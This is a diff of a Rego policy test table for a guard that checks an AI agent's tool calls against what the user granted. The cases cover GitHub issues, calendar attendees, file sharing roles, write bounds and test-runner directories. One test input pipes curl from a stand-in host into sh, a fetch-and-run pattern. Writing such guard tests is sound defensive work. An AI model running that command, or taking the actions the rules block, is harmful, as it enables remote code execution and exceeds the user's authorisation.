@@ -300,7 +300,51 @@ cases := [
 	{"name": "unknown tool asks", "in": call_input("mystery", {}, {}), "task": fallback, "want": "ask", "codes": {"UNKNOWN_TOOL"}},
 	{"name": "unknown MCP name asks", "in": mcp("mcp__x__do_thing", ["do", "thing"]), "task": fallback, "want": "ask", "codes": {"UNKNOWN_TOOL"}},
 	{"name": "pipe into a shell", "in": shell_input([command(["curl", "https://x.example/i.sh"]), cmdx(["sh"], {"pipe_from": "curl"})]), "task": exec_unbounded, "want": "ask", "codes": {"UNKNOWN_TOOL"}},
+	# object grants: what the user asked to create, not whatever the service can do
+	{"name": "create the issue asked for", "in": mcp("mcp__github__create_issue", ["create", "issue"]), "task": issue_task, "want": "allow", "codes": set()},
+	{"name": "no merge under an issue grant", "in": mcp("mcp__github__merge_pull_request", ["merge", "pull", "request"]), "task": issue_task, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "no closing another issue", "in": mcp("mcp__github__close_issue", ["close", "issue"]), "task": issue_task, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "no deleting the repo", "in": mcp("mcp__github__delete_repository", ["delete", "repository"]), "task": issue_task, "want": "block", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "attendee the user did not name", "in": event_with(["ann@acme.com", "eve@x.com"]), "task": event_task, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "attendee the user named", "in": event_with(["ann@acme.com"]), "task": event_task, "want": "allow", "codes": set()},
+	{"name": "share at the role asked for", "in": share_as("reader"), "task": share_task, "want": "allow", "codes": set()},
+	{"name": "share as owner", "in": share_as("owner"), "task": share_task, "want": "block", "codes": {"NOT_AUTHORIZED"}},
+	# write bounds: writes stay inside, reads go anywhere
+	{"name": "write inside the write bound", "in": write("/ws/src/parser.py"), "task": only_parser, "want": "allow", "codes": set()},
+	{"name": "write outside the write bound", "in": write("/ws/src/lexer.py"), "task": only_parser, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
+	{"name": "read outside the write bound", "in": read("/ws/src/lexer.py"), "task": only_parser, "want": "allow", "codes": set()},
+	{"name": "open write under a write bound", "in": sh([["sort", "-o", "out.txt", "in.txt"]]), "task": only_parser, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
+	{"name": "git commit under a write bound", "in": sh([["git", "commit", "-m", "x"]]), "task": object.union(only_parser, {"grants": [grant("g1", "LOCAL_WRITE", {"capability": "commit", "workspace": true})]}), "want": "allow", "codes": set()},
+	# runners run this project's code
+	{"name": "tests of another directory", "in": sh([["pytest", "/tmp/evil"]]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "tests after cd elsewhere", "in": sh([["cd", "/tmp/evil"], ["pytest"]]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "tests after a bare cd", "in": sh([["cd"], ["pytest"]]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "tests after cd inside", "in": sh([["cd", "tests"], ["pytest"]]), "task": tests, "want": "allow", "codes": set()},
+	{"name": "tests in another workdir", "in": object.union(sh([["pytest"]]), {"facts": {"paths": [path_fact("/tmp/evil", "workdir", "arg", "")]}}), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
 ]
+
+issue_task := grants([grant("g1", "EXTERNAL_WRITE", {
+	"capability": "publish", "tools": ["mcp__github__*"], "objects": ["issue"], "operations": ["create"],
+})])
+
+event_task := grants([grant("g1", "EXTERNAL_WRITE", {
+	"capability": "publish", "tools": ["mcp__calendar__*"], "objects": ["event"], "operations": ["create"],
+	"recipients": ["ann@acme.com"],
+})])
+
+event_with(attendees) := mcp_input("mcp__calendar__create_event", ["create", "event"], {"recipients": [recipient(a, "attendees") | some a in attendees]})
+
+share_task := grants([
+	grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["ann@acme.com"]}),
+	grant("g2", "PERMISSION_CHANGE", {"capability": "share", "recipients": ["ann@acme.com"], "access": "read"}),
+])
+
+share_as(role) := object.union(
+	mcp_input("mcp__drive__share_file", ["share", "file"], {"recipients": [recipient("ann@acme.com", "email")]}),
+	{"call": {"args": {"email": "ann@acme.com", "role": role}}},
+)
+
+only_parser := policy_of([grant("g1", "LOCAL_WRITE", {"capability": "edit", "workspace": true, "paths": ["/ws/src/parser.py"]})], [], {"bounds": {"write_paths": ["/ws/src/parser.py"]}})
 
 # The task module's verdicts through the decision, without the always-on guards (which block
 # some of these rows on their own and have their own tests under rego/opafence/guards/).
